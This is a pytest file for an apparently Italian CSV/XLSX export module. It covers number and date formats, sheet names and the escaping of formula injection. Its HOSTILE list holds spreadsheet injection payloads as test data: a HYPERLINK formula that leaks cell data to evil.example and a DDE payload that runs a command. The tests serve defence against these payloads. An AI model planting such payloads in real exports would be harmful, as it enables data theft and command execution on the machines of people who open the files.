"""The shared CSV/XLSX writer: Italian CSV conventions, number formats, sheet names, inert formulas."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from common.tabular import (
    SHEET_NAME_MAX,
    Column,
    Kind,
    add_sheet,
    csv_response,
    csv_sections,
    csv_text,
    neutralise,
    new_book,
    sheet_name,
    xlsx_bytes,
)

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"ETS")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
           "\tcmd", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_it_makes_every_formula_start_inert(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Coop Il Girasole", "", "1+1", "O'Brien", "—", "'già protetto"])
def test_it_leaves_ordinary_text_alone(text):
    assert neutralise(text) == text


def test_the_csv_follows_italian_excel():
    text = csv_text([Column("Nome"), Column("Ore", Kind.HOURS), Column("Euro", Kind.EURO), "Dal", "Attivo"],
                    [["Anna", Decimal("117.50"), Decimal("2820.00"), date(2026, 4, 28), True],
                     ["Luca", 1.5, -12, None, False]])
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows == [["Nome", "Ore", "Euro", "Dal", "Attivo"],
                    ["Anna", "117,50", "2820,00", "28/04/2026", "sì"],
                    ["Luca", "1,5", "-12", "", "no"]]  # a negative number stays a number


def test_the_csv_neutralises_text_but_not_numbers():
    rows = list(csv.reader(io.StringIO(csv_text(["Nome", "Saldo"], [[h, -5] for h in HOSTILE])), delimiter=";"))
    assert all(r[0].startswith("'") for r in rows[1:])
    assert {r[1] for r in rows[1:]} == {"-5"}


def test_the_download_carries_the_bom_and_the_name():
    response = csv_response("registro.csv", csv_sections([("Tabella", ["A"], [[1]])], preamble=[["Titolo"]]))
    assert response.content.startswith(b"\xef\xbb\xbf") and 'filename="registro.csv"' in response["Content-Disposition"]
    lines = response.content.decode("utf-8-sig").split("\r\n")
    assert lines[:5] == ["Titolo", "", "Tabella", "A", "1"]


@pytest.mark.parametrize(("title", "expected"), [
    ("Famiglie per dispositivo attivato", "Famiglie per dispositivo"),
    ("Per ruolo", "Per ruolo"),
    ("Ore: [bozza] / 2026?", "Ore- -bozza- - 2026-"),
])
def test_sheet_names_fit_excel(title, expected):
    assert sheet_name(title) == expected and len(sheet_name(title)) <= SHEET_NAME_MAX


def test_sheet_names_stay_unique():
    assert sheet_name("Per ruolo", ["per ruolo"]) == "Per ruolo (2)"
    assert len(sheet_name("x" * 40, ["x" * 31])) <= SHEET_NAME_MAX


def test_the_xlsx_has_formats_a_frozen_header_and_no_formula():
    book = new_book()
    add_sheet(book, "Costi", [Column("Voce"), Column("Ore", Kind.HOURS), Column("Euro", Kind.EURO),
                              Column("Famiglie", Kind.INTEGER)],
              [[h, Decimal("1.5"), Decimal("24000.5"), 3] for h in HOSTILE] + [["Dal", date(2026, 1, 2), None, 0]])
    sheet = load_workbook(io.BytesIO(xlsx_bytes(book)))["Costi"]
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
    assert [c.number_format for c in sheet[2]][1:] == ["#,##0.0", "#,##0.00", "#,##0"]
    assert sheet["C2"].value == 24000.5 and sheet["C2"].data_type == "n"  # a number, not a text
    assert sheet["B8"].number_format == "DD/MM/YYYY"
    texts = [row[0] for row in sheet.iter_rows(min_row=2, max_row=7)]
    assert [c.value for c in texts] == HOSTILE and {c.data_type for c in texts} == {"s"}  # text, never a formula
    assert sheet.column_dimensions["A"].width > len("Voce") + 2
